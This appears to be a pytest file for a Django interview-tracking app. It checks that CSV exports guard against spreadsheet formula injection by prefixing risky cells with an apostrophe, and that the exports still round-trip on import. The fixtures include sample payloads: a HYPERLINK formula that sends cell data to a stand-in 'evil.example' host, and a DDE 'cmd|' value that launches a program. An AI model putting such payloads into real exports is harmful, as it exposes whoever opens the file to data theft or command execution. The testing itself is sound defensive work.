"""Finding 9: CSV exports carried cells a spreadsheet runs as formulas (``=HYPERLINK(…)``,
``+cmd|…``, ``@SUM(…)``). Every CSV the product writes now puts OWASP's apostrophe before a
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return, and the import takes it
off again, so the exports still round-trip."""

import csv

import pytest

from candidates.models import Candidate
from interview_tracker.importing import csv_cell, csv_value
from tests.dataops.test_import_export import _snapshot
from tests.factories import CandidateFactory, CompanyFactory, PositionFactory, QuestionFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Values people may type, each starting with a trigger or with what the guard itself looks like.
RISKY = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+49 30 1234567",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted by hand",
    "''two apostrophes",
    "'just an apostrophe",
]


@pytest.fixture
def risky_workspace(workspace):
    company = CompanyFactory(workspace=workspace, name="=Evil Corp")
    position = PositionFactory(
        workspace=workspace, company=company, title="+Staff engineer", tags=["@team", "-x"]
    )
    for n, value in enumerate(RISKY):
        CandidateFactory(
            workspace=workspace,
            name=value,
            email=f"risky{n}@example.com",
            phone="+44 20 7946 0000",
            notes=value,
            source="=cmd|' /C calc'!A0",
            tags=[value.lstrip("'")],
            position=position,
        )
        QuestionFactory(workspace=workspace, text=f"{value} (question {n})", company=company)
    # Only the import trims a cell's outer spaces; a stored value may still start with them.
    CandidateFactory(workspace=workspace, email="tab@example.com", notes="\t=1+1\r=2")
    return workspace


def _cells(path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


@pytest.mark.parametrize("entity", ["candidates", "positions", "questions"])
def test_finding_09_no_exported_cell_starts_a_formula(run, tmp_path, risky_workspace, entity):
    path = tmp_path / f"{entity}.csv"
    run(f"export_{entity}", str(path), workspace=str(risky_workspace.pk), format="csv")
    cells = _cells(path)
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
    # The risky values are in the file, each behind the guard.
    assert [cell for cell in cells if cell[:1] == "'" and cell[1:2] in TRIGGERS]


def test_finding_09_the_guarded_cells_are_the_values_behind_an_apostrophe(
    run, tmp_path, risky_workspace
):
    path = tmp_path / "candidates.csv"
    run("export_candidates", str(path), workspace=str(risky_workspace.pk), format="csv")
    cells = set(_cells(path))
    assert "'" + RISKY[0] in cells
    assert "'+44 20 7946 0000" in cells
    assert "'\t=1+1\r=2" in cells
    assert "''=already quoted by hand" in cells
    assert "'just an apostrophe" in cells


def test_finding_09_guarded_exports_round_trip(run, tmp_path, risky_workspace, other_workspace):
    for entity in ("positions", "candidates", "questions"):
        path = tmp_path / f"{entity}.csv"
        run(f"export_{entity}", str(path), workspace=str(risky_workspace.pk), format="csv")
        run(f"import_{entity}", str(path), workspace=str(other_workspace.pk))
    # The one value that starts with whitespace comes back trimmed, as any imported cell.
    Candidate.objects.filter(workspace=risky_workspace, email="tab@example.com").update(
        notes="=1+1\r=2"
    )
    assert _snapshot(other_workspace) == _snapshot(risky_workspace)
    phones = set(Candidate.objects.filter(workspace=other_workspace).values_list("phone"))
    assert phones == {("+44 20 7946 0000",), ("",)}


@pytest.mark.parametrize(
    "value", ["", "plain", "=1", "'", "''", "'=", "'''=x", "\t", "-", "a=b", "'a", "@"]
)
def test_finding_09_every_text_survives_the_guard(value):
    assert csv_value(csv_cell(value)) == value
    assert not csv_cell(value).startswith(TRIGGERS)
